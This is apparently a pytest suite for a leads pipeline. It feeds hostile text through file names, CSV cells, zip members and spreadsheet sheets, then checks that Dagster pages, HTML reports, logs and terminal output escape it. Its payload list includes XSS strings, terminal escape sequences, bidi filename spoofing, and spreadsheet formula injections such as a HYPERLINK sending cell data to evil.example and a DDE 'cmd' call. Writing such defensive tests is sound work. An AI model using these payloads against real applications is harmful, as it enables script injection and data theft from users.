"""Text from outside never acts: a night whose every name and cell is hostile, and all that is shown of it."""

from __future__ import annotations

import csv
import io
import re
import shutil
import unicodedata
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import dagster as dg
import polars as pl
import pytest
import xlsxwriter
from markdown_it import MarkdownIt

from engine.escaping import for_csv, for_html, for_log, for_markdown, for_terminal, visible
from tests.conftest import Run

# One hostile text of each kind; MARK is in all of them, so that what is shown of them is found again.
MARK = "Zquark"
HOSTILE = (
    f"![{MARK}](http://evil.example/a.png)",
    f"[{MARK}](javascript:alert(1))",
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert('{MARK}')>",
    f'" onmouseover="alert(1)" x="{MARK}',
    f"{MARK} | a | b |",
    f"`{MARK}` ```{MARK}",
    f"{MARK}\n\n# heading\n\n- item <b>x</b>",
    f"{MARK}\r2026-01-01 INFO forged",
    f"[bold red]{MARK}[/bold red] [link=http://evil.example]x[/link] [/]",
    f"\x1b[2J\x1b]0;{MARK}\x07\x1b]8;;http://evil.example\x1b\\{MARK}",
    f"\x9b31m{MARK}\x07\x08\x08",
    f"{MARK}\u202egnp.exe\u2066\u200b\ufeff",
    f"=HYPERLINK(\"http://evil.example/?\"&A1,\"{MARK}\")",
    f"{MARK};=1+1",
    f"http://evil.example/{MARK} www.evil.example {MARK}@evil.example",
    f"{MARK}\u2028\u2029\x85\x0c|x",
    f"$$\\href{{http://evil.example}}{{{MARK}}}$$ [^1] {{{{7*7}}}} {{% raw %}} :bomb: \\",
    f"&lt;b&gt;{MARK}&#x3c;i&#x3e;",
)  # fmt: skip
PATTERN = str.maketrans("[]*?", "⟦⟧✱¿")  # paths as patterns are another class: `test_fence`
ACTING = {"Cc", "Cf", "Cs", "Zl", "Zp"}


def acting(text: str) -> list[str]:
    """Signs that act on a terminal or on the order of letters; the ends of our own lines are none."""
    return [hex(ord(sign)) for sign in text if sign != "\n" and unicodedata.category(sign) in ACTING]


# One function a place


@pytest.mark.parametrize("text", HOSTILE)
def test_in_markdown_it_is_one_code_span(text: str) -> None:
    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(
        f"| a | b |\n| --- | --- |\n| {for_markdown(text)} | end |"
    )
    inline = [token for token in tokens if token.type == "inline"]
    assert [[child.type for child in token.children or []] for token in inline] == [
        *(["text"], ["text"]),
        *(["code_inline"], ["text"]),
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_elsewhere_it_is_one_line_without_acting_signs(text: str) -> None:
    for shown in (visible(text), for_log(text), for_terminal(text), str(for_html(text)), for_markdown(text)):
        assert acting(shown) == []
        assert len(shown.splitlines()) == 1


@pytest.mark.parametrize("text", [*HOSTILE, "[", "[/", "\\[red]", "\\", "a\\\\[b]", "[@click=x]"])
def test_rich_shows_it_as_it_stands(text: str) -> None:
    from rich.console import Console

    out = io.StringIO()
    Console(file=out, force_terminal=True, width=1000, emoji=False, highlight=False).print(
        f"{for_terminal(text)}[red]!", soft_wrap=True
    )
    assert out.getvalue() == f"{visible(text)}\x1b[31m!\x1b[0m\n"


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200b=1", "\ufeff=1", "＝1"]
    + [f"a{sign}{formula}" for sign in ",;\t|\n" for formula in ("=1+1", ' "=1+1"', "@x", "-1+cmd|x", "+x", "＝1")],
)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits(text: str, separator: str) -> None:
    written = for_csv(pl.DataFrame({"a": [text], "b": [text]})).write_csv(separator=",")
    for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
        for cell in row:
            assert not re.match(r"[\s\u200b\ufeff\"]*[=+\-@＝]", cell), (cell, written)


# A night of them


def _in_a_name(text: str) -> str:
    """As much of a text as a file may be called."""
    return text.replace("/", "∕")[:80]


def _inbox(home: Path) -> None:
    folder = home / "inbox" / "offline"
    honest = ["Erika", "Sommer", "erika.sommer@nordwind.de", "Nordwind GmbH", "0711 123456", "Einkäuferin"]
    names = ["Vorname", "Nachname", "E-Mail", "Firma", "Telefon", "Position", "Ort", "Notiz"]
    rows = [[*honest, "Stuttgart", "x"]]
    for number, text in enumerate(HOSTILE):
        mail = f"person{number}@nordwind.de"
        rows.append([text, text, mail, text, "0711 4455" + str(10 + number), text, text, text])
        rows.append([f"Anna{MARK}", f"Berg{MARK}", text, f"{text} GmbH", text, text, text, text])
        rows.append([text, "", "", "", text, "", "", ""])
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([names, *rows])
    table = text.getvalue()
    plain = folder / "plain" / "plain.csv"
    plain.parent.mkdir(parents=True)
    plain.write_text(table, encoding="utf-8", newline="")
    for number, name in enumerate(HOSTILE):
        source = folder / _in_a_name(name).translate(PATTERN)
        source.mkdir()
        header = "Vorname;Nachname;E-Mail;" + re.sub(r'[;\r\n"]', "", name)
        line = f"{header}\nUwe;Lang;uwe{number}@lang.de;{number}\n"
        (source / f"{_in_a_name(name)}.csv").write_text(line, encoding="utf-8")
        (source / f"{_in_a_name(name)} broken.csv").write_bytes(name.encode() + b"\n" + name.encode())
        with zipfile.ZipFile(source / "members.zip", "w") as archive:
            archive.writestr(f"{name}.csv", line.replace("uwe", "udo"))
            archive.writestr(f"{name}.xyz", name)
        (home / "inbox" / f"{_in_a_name(name)}.csv").write_text("stray", encoding="utf-8")
    book = xlsxwriter.Workbook(folder / "plain" / "sheets.xlsx", {"strings_to_formulas": False})
    for number, name in enumerate(HOSTILE):
        sheet = book.add_worksheet(f"{number}" + re.sub(r"[\[\]:*?/\\'\x00-\x1f\x7f-\x9f\ufeff]", "", name)[:28])
        sheet.write_row(0, 0, ["Vorname", "Nachname", "E-Mail"])
        sheet.write_row(1, 0, ["Ute", "Tal", f"ute{number}@tal.de"])
    book.close()


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory, leads: Run) -> tuple[Path, str]:
    """A home after a hostile night, and what the terminal was told."""
    home = tmp_path_factory.mktemp("hostile")
    _inbox(home)
    done = leads("run", "--home", home)
    assert done.returncode == 0, done.stdout + done.stderr
    said = [done.stdout + done.stderr]
    lead = pl.read_parquet(home / "published/current/leads.parquet").sort("source_count", descending=True)["lead_id"]
    for command in (["explain", lead[0]], ["explain", lead[1]], ["review"], ["evaluate"], ["docs"]):
        done = leads(*command, "--home", home)
        assert done.returncode == 0, done.stdout + done.stderr
        said.append(done.stdout + done.stderr)
    said += [leads("explain", "--home", home, "--", asked).stdout for asked in HOSTILE[::4]]
    crosswalk = pl.read_parquet(home / "published/current/lead_crosswalk.parquet")
    hostile = crosswalk.filter(pl.col("source").str.contains(MARK))["lead_id"].unique().sort().head(3)
    without = tmp_path_factory.mktemp("without") / "home"  # whoever is forgotten takes the page of the night along
    shutil.copytree(home, without, symlinks=True)
    for _ in range(2):
        done = leads("forget", "--yes", *hostile, "--home", without)
        assert done.returncode == 0, done.stdout + done.stderr
        said.append(done.stdout + done.stderr)
    return home, "\n".join(said)


def _texts_of(value: object) -> Iterator[tuple[str, str]]:
    if isinstance(value, dg.MarkdownMetadataValue):
        yield "markdown", value.value or ""
    elif isinstance(value, dg.MetadataValue) and isinstance(value.value, str):
        yield "text", value.value


def _shown(home: Path) -> Iterator[tuple[str, str, str]]:
    """Everything the Dagster page shows of the night: where, as what, and the text."""
    with dg.DagsterInstance.from_config(str(home / "dagster")) as instance:
        (run,) = instance.get_runs()
        for record in instance.all_logs(run.run_id):
            yield str(record.step_key), "text", record.user_message or ""
            yield str(record.step_key), "text", record.message or ""
            event = record.dagster_event
            if event is None:
                continue
            data = event.event_specific_data
            metadata = getattr(getattr(data, "materialization", data), "metadata", None) or {}
            for label, value in metadata.items():
                for kind, text in _texts_of(value):
                    yield f"{event.step_key}.{label}", kind, text
            if description := getattr(data, "description", None):
                yield f"{event.step_key} description", "markdown", description


@pytest.mark.slow
def test_nothing_acts_in_dagster(told: tuple[Path, str]) -> None:
    shown = list(_shown(told[0]))
    assert any(MARK in text for _, kind, text in shown if kind == "markdown"), "the names of files are shown"
    for where, kind, text in shown:
        assert acting(text) == [], where
        if kind == "markdown":
            for token in MarkdownIt("gfm-like", {"linkify": False}).parse(text):
                for part in [token, *(token.children or [])]:
                    assert part.type not in {"link_open", "image", "html_block", "html_inline", "heading_open"}, where
                    assert part.type == "code_inline" or MARK not in (part.content if not part.children else ""), where
        elif MARK in text:
            assert len(text.splitlines()) == 1, where


class _Page(HTMLParser):
    """Elements with their attributes, and the text between them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.slow
def test_nothing_acts_on_a_page(told: tuple[Path, str]) -> None:
    ours = [told[0] / "report" / "index.html", told[0] / "report" / "data_docs" / "index.html"]
    text = ""
    for path in ours:
        page = _Page()
        page.feed(path.read_text(encoding="utf-8"))
        text += page.text
        for tag, attributes in page.tags:
            assert tag not in {"script", "img", "iframe", "object", "embed", "base", "form"}, path
            for name, value in attributes:
                assert not name.startswith("on"), (path, name)
                assert MARK not in (value or "")
                assert "evil" not in (value or "")
    assert MARK in text
    assert acting(text) == []
    others = {*(told[0] / "report").rglob("*.html")} - {*ours}
    assert [path for path in others if MARK in path.read_text(encoding="utf-8")] == [], "they show no values"


@pytest.mark.slow
def test_nothing_acts_on_the_terminal(told: tuple[Path, str]) -> None:
    assert MARK in told[1]
    assert acting(told[1]) == []
    assert "[bold red]" in told[1], "what looks like markup of ours is shown"
